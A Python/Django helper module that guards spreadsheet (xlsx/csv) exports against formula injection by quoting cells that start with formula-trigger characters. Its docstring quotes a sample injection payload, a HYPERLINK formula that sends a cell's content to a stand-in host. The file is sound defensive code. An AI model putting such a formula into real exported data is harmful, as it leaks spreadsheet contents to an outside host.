"""Spreadsheet exports: the one guard against formula injection (CSV/formula injection,
OWASP). A value a user typed (a position named `=HYPERLINK("http://x"&A2,"Klik")`, an
employee named `@SUM(...)`) must reach Excel or LibreOffice as text, never as a live formula.
Every cell of every export (xlsx and csv) goes through `aman_sel`; strings starting with
`= + - @`, a tab or a carriage return get a leading single quote, OWASP's recommendation.
Numbers, dates and None pass unchanged, so a negative number stays a number."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise

PEMICU_RUMUS = ("=", "+", "-", "@", "\t", "\r")


def aman_sel(value: Any) -> Any:
    """`value` made safe for one spreadsheet cell."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(PEMICU_RUMUS):
        return "'" + value
    return value


def baris_aman(values: Iterable[Any]) -> list[Any]:
    """A row of cells, each through `aman_sel`."""
    return [aman_sel(v) for v in values]
